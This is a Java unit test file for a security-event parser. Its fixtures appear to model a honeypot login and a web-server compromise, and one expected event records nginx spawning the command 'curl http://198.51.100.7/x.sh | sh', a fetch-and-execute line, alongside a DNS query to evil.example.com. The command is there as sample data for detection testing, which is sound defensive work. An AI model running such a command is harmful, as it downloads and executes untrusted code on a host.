package io.hsystem.ingest.parse;

import static io.hsystem.ingest.parse.Samples.expected;
import static io.hsystem.ingest.parse.Samples.fields;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.hsystem.ingest.internal.parse.NativeParser;
import io.hsystem.ingest.internal.parse.Parsers;
import io.hsystem.ingest.internal.parse.RecordParser;
import io.hsystem.protocol.Event;
import io.hsystem.protocol.SourceType;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class NativeParserTest {

  private final RecordParser sensor = Parsers.forSource(SourceType.HSYSTEM_SENSOR);
  private final RecordParser agent = Parsers.forSource(SourceType.HSYSTEM_AGENT);

  @Test
  void noRecordsGiveNoEvents() {
    assertThat(Samples.parseOk(sensor, "native", "no.jsonl")).isEmpty();
  }

  @Test
  void sensorRecordKeepsEveryCanonicalField() {
    List<Event> events = Samples.parseOk(sensor, "native", "one.jsonl");

    assertThat(events).hasSize(1);
    assertThat(fields(events.get(0)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:03Z"),
                "event_type", "login_attempt",
                "event_category", "honeypot",
                "source_type", "hsystem_sensor",
                "sensor_id", "sensor-7",
                "service", "ssh",
                "session_id", "a1b2c3",
                "src_ip", "203.0.113.9",
                "src_port", 51234L,
                "dst_ip", "10.0.0.5",
                "dst_port", 22L,
                "username", "root",
                "password", "123456"));
  }

  @Test
  void agentRecordsReadEveryTimeFormAndIgnorePipelineFields() {
    List<Event> events = Samples.parseOk(agent, "native", "many.jsonl");

    assertThat(events).hasSize(4);
    assertThat(fields(events.get(0)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:03.250Z"),
                "event_type", "process_start",
                "event_category", "process",
                "source_type", "hsystem_agent",
                "host_name", "web-01",
                "process_name", "bash",
                "path", "/usr/bin/bash",
                "command_line", "bash -c 'curl http://198.51.100.7/x.sh | sh'",
                "process_id", 4242L,
                "parent_process_name", "nginx",
                "parent_path", "/usr/sbin/nginx",
                "user", "www-data",
                "hash_sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"));
    assertThat(fields(events.get(1)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:03Z"),
                "event_type", "network_connection",
                "event_category", "network",
                "source_type", "hsystem_agent",
                "host_name", "web-01",
                "src_ip", "10.0.0.5",
                "src_port", 40112L,
                "dst_ip", "198.51.100.7",
                "dst_port", 80L,
                "protocol", "tcp"));
    assertThat(fields(events.get(2)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:03.123Z"),
                "event_type", "dns_query",
                "event_category", "system",
                "source_type", "hsystem_agent",
                "host_name", "web-01",
                "dns_query", "evil.example.com"));
    assertThat(fields(events.get(3)))
        .containsExactlyInAnyOrderEntriesOf(
            expected(
                "event_time", Instant.parse("2025-08-27T14:25:03Z"),
                "event_type", "file_create",
                "event_category", "file",
                "source_type", "hsystem_agent",
                "file_path", "/tmp/x.sh"));
  }

  @Test
  void malformedRecordsAreRejectedWithTheFieldNamed() {
    assertThat(Samples.reasons(sensor, "native", "malformed.jsonl"))
        .containsExactly(
            "event_time: missing",
            "event_time: not a timestamp: 'yesterday'",
            "event_type: missing",
            "src_port: not a number: 'ssh'",
            "dst_port: not a whole number: 22.5",
            "event_type: expected a string, got an object",
            "event_time: not a valid date or time: '2025-02-30 14:25:03'",
            "event_time: expected a timestamp, got a boolean",
            "username: expected a string, got an array",
            "record: empty object",
            "record: not a JSON object",
            "record: not a JSON object");
  }

  @Test
  void onlyHSystemSourcesHaveANativeParser() {
    assertThatThrownBy(() -> new NativeParser(SourceType.COWRIE))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> Parsers.forSource(SourceType.SYSLOG))
        .isInstanceOf(IllegalArgumentException.class);
    for (SourceType type : SourceType.values()) {
      if (type != SourceType.SYSLOG) {
        assertThat(Parsers.forSource(type).source()).isEqualTo(type);
      }
    }
  }
}
